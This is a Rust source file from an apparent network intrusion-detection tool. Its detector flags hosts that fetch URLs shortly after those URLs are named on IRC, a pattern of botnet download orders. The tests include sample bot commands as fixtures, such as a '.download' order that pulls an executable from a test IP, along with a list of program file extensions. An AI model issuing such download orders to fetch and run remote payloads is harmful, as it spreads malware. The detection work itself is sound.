//! D31: what was named in IRC is fetched (ATT&CK T1105, T1071).
//!
//! A home host hears an address or a URL on IRC, and within ten minutes, or later, it connects there. Bro's policy for
//! bots remembered URLs of topics for a week. Where the URL came with an order it is an egg; where it names a program
//! it may be; any other link is what people post and others click, and weighs next to nothing. Hosts it was at before
//! do not count, unless a topic or an operator sends it there: others may name the site that everybody reads.

mod mentions;

use std::hash::BuildHasher as _;

use wiretale_protocol::{Address, Direction};

use self::mentions::{Mention, Mentions};
use crate::bounded::Bounded;
use crate::dialect::{Verb, address, url};
use crate::heard::{Heard, Spoken};
use crate::text::{linked_words, shown};
use crate::{Detector, Ends, Fact, Findings, Hears, Scene};

/// Links heard, by home host.
pub(super) struct Egg {
    hosts: Bounded<Address, Mentions>,
    // Bytes that mentions take, and hosts that heard some, those that went included: so much each has on average.
    bytes: usize,
    heard: usize,
}

impl Default for Egg {
    fn default() -> Self {
        Self { hosts: Bounded::new(1 << 13), bytes: 0, heard: 0 }
    }
}

impl Detector for Egg {
    fn name(&self) -> &'static str {
        "D31"
    }

    fn memory(&self) -> usize {
        self.hosts.memory(self.bytes / self.heard.max(1))
    }

    fn hears(&self) -> Hears {
        Hears::IRC_LINK | Hears::OPENED
    }

    fn ends(&self) -> Ends {
        Ends::CLIENT
    }

    fn hear(&mut self, scene: &Scene<'_>, fact: &Fact<'_>, findings: &mut Findings) {
        match fact {
            Fact::Opened => self.fetched(scene, findings),
            Fact::Irc(_) => {
                if let Some(heard @ Heard { spoken: Some(spoken), link: Some(first), .. }) = scene.heard {
                    self.mentioned(scene, heard, spoken, *first);
                }
            }
            _ => {}
        }
    }
}

impl Egg {
    fn mentioned(&mut self, scene: &Scene<'_>, said: &Heard<'_>, spoken: &Spoken<'_>, first: usize) {
        let (from, place) = (spoken.called(), spoken.place);
        let order = said.order.is_some_and(|order| order.kind == Verb::Fetch && order.fits > 0 && !order.quoted);
        let in_charge = order && spoken.is_in_charge(scene.session());
        let heard = self.hosts.entry(scene.moment.flow.client.address);
        for word in linked_words(said.text, first, WORDS) {
            // The same link again, through another of the host's connections: the first one stands, unless it came
            // without an order, and now there is one, or a weightier one.
            let number = scene.hash.hash_one(word);
            let known = heard.known(number, word).map(|at| &heard.all[at]);
            if known.is_some_and(|known| !order || known.strength == 1.0 && known.in_charge >= in_charge) {
                continue;
            }
            let Some((host, path)) = url(word) else { continue };
            let strength = match () {
                () if order => 1.0,
                () if is_program(path) => 0.6,
                () => 0.05,
            };
            let mention = Mention {
                at: scene.moment.at,
                frame: scene.moment.frame,
                host: host.to_ascii_lowercase(),
                address: address(host),
                link: word.to_vec(),
                from: from.to_vec(),
                channel: scene.channel_tie(place),
                flow: scene.moment.flow.id.to_string(),
                strength,
                in_charge,
                fetched: false,
            };
            self.heard += usize::from(heard.all.is_empty());
            self.bytes += mention.weight();
            self.bytes -= heard.put(number, mention).map_or(0, |gone| gone.weight());
        }
    }

    fn fetched(&mut self, scene: &Scene<'_>, findings: &mut Findings) {
        let (at, flow) = (scene.moment.at, scene.moment.flow);
        let (host, server) = (flow.client.address, flow.server.address);
        let Some(heard) = self.hosts.get_mut(&host) else { return };
        let name = scene.names.of(server).map(<[u8]>::to_ascii_lowercase);
        let is = |mention: &&mut Mention| {
            // What came to nothing is told of when it is over: it may have begun before that was said.
            let late = at < mention.at || at.since(mention.at).as_secs() > WEEK;
            let there = mention.address == Some(server.to_ip()) || name.as_ref() == Some(&mention.host);
            there && !late && !mention.fetched && (!scene.facts.returns || mention.in_charge)
        };
        let Some(mention) = heard.all.iter_mut().find(is) else { return };
        mention.fetched = true;
        let waited = at.since(mention.at).as_secs();
        let row = if waited <= SOON { "D31.egg" } else { "D31.egg_late" };
        let link = shown(&mention.link);
        let text = format!(
            "{host} went to {} {waited} s after {} named it on IRC: \"{link}\"{}",
            flow.server,
            shown(&mention.from),
            scene.unsent()
        );
        let evidence = scene.evidence(Direction::Client, row, link.to_string(), text).strength(mention.strength);
        let name = mention.link.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let mut evidence =
            evidence.frame(mention.frame).tie(mention.channel.clone()).tie(format!("file:{}", shown(name)));
        evidence.uids.push(mention.flow.clone());
        findings.push(evidence);
    }
}

fn is_program(path: &[u8]) -> bool {
    let path = path.split(|byte| matches!(byte, b'?' | b'#')).next().unwrap_or_default().to_ascii_lowercase();
    PROGRAMS.iter().any(|end| path.ends_with(end))
}

const SOON: u64 = 600;
const WEEK: u64 = 7 * 86_400;
const WORDS: usize = 64;
const PROGRAMS: &[&[u8]] =
    &[b".exe", b".scr", b".pif", b".bat", b".vbs", b".sh", b".pl", b".bin", b".elf", b".msi", b".ps1", b".jar"];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{HOST, Play, Server};
    use wiretale_irc::{Event, Wire};
    use wiretale_protocol::Observer;

    fn heard(text: &str) -> Play {
        let mut play = Play::of(Egg::default());
        let flow = play.session(0.0, HOST, 6667, "b", "b");
        play.open(1.0, HOST, [198, 51, 100, 1], 80);
        play.heard(flow, 10.0, "h3rd3r", "#x", text);
        play
    }

    #[test]
    fn an_order_s_link_is_an_egg_and_a_friend_s_is_not() {
        let mut play = heard(".download http://198.51.100.140/upd.exe c:\\upd.exe 1");
        play.open(11.0, HOST, [198, 51, 100, 140], 80);
        play.open(12.0, HOST, [198, 51, 100, 140], 80);
        assert_eq!((play.rows(), play.evidence()[0].strength), (vec!["D31.egg"], 1.0));
        assert!(play.evidence()[0].ties.contains(&"file:upd.exe".to_owned()));
        let mut play = heard("has anyone seen http://198.51.100.140/a.html?");
        play.open(11.0, HOST, [198, 51, 100, 140], 80);
        assert!(play.evidence()[0].strength <= 0.1);
    }

    const ORDER: &str = ".download http://198.51.100.140/upd.exe c:\\upd.exe 1";

    fn topic(play: &mut Play, at: f64) {
        let [channel, setter, text] = ["#y", "0rd3r!~o@198.51.100.9", ORDER].map(|text| Wire(text.as_bytes()));
        play.irc(0, at, Server, Event::Topic { channel, text, setter, time: None, changed: false });
    }

    #[test]
    fn where_nobody_knows_who_set_a_topic_it_is_the_topic_that_named_it() {
        let mut play = heard("hello");
        let [channel, text] = ["#y", ORDER].map(|text| Wire(text.as_bytes()));
        play.irc(0, 12.0, Server, Event::Topic { channel, text, setter: Wire(b""), time: None, changed: false });
        play.open(13.0, HOST, [198, 51, 100, 140], 80);
        assert!(
            play.evidence()[0].text.contains(" 1 s after the topic named it on IRC"),
            "{}",
            play.evidence()[0].text
        );
    }

    #[test]
    fn who_orders_is_told_and_not_who_named_it_before() {
        let mut play = heard("look http://198.51.100.140/upd.exe");
        play.open(20.0, HOST, [198, 51, 100, 140], 80);
        topic(&mut play, 3000.0);
        play.heard(0, 3001.0, "friend", "#x", "look http://198.51.100.140/upd.exe");
        play.open(3002.0, HOST, [198, 51, 100, 140], 80);
        let row = &play.evidence()[1];
        assert_eq!((play.rows(), row.strength), (vec!["D31.egg"; 2], 1.0));
        assert!(row.text.contains("2 s after 0rd3r") && row.ties[0].ends_with("#y"), "{} {:?}", row.text, row.ties);
    }

    #[test]
    fn a_stranger_s_order_does_not_make_an_old_visit_an_egg() {
        let mut play = Play::of(Egg::default());
        let flow = play.session(0.0, HOST, 6667, "b", "b");
        play.open(1.0, HOST, [198, 51, 100, 140], 80);
        play.heard(flow, 10.0, "tr0ll", "b", ORDER);
        play.heard(flow, 10.0, "tr0ll", "#x", ORDER);
        play.open(11.0, HOST, [198, 51, 100, 140], 80);
        assert!(play.rows().is_empty());
        topic(&mut play, 12.0);
        play.open(13.0, HOST, [198, 51, 100, 140], 80);
        assert_eq!(play.rows(), ["D31.egg"]);
    }

    #[test]
    fn memory_counts_what_was_heard() {
        let mut play = heard("http://0.example/x");
        let before = play.scorer().memory();
        (1..200).for_each(|n| play.heard(0, 1.0, "x", "#x", &format!("http://{n}.example/{}", "a".repeat(400))));
        let grown = play.scorer().memory() - before;
        assert!((128 * 400..128 * 800).contains(&grown), "{grown}");
    }

    #[test]
    fn what_began_before_and_is_told_of_behind_is_no_egg() {
        let mut play = heard("look: http://198.51.100.140/x.exe");
        play.open(9.0, HOST, [198, 51, 100, 140], 80);
        assert!(play.rows().is_empty());
    }

    #[test]
    fn where_it_was_before_is_nothing_new_and_later_is_late() {
        let mut play = heard("look: http://198.51.100.1/x.exe");
        play.open(11.0, HOST, [198, 51, 100, 1], 80);
        assert!(play.rows().is_empty());
        let mut play = heard("look: http://198.51.100.140/x.exe");
        play.open(3000.0, HOST, [198, 51, 100, 140], 80);
        assert_eq!(play.rows(), ["D31.egg_late"]);
    }
}
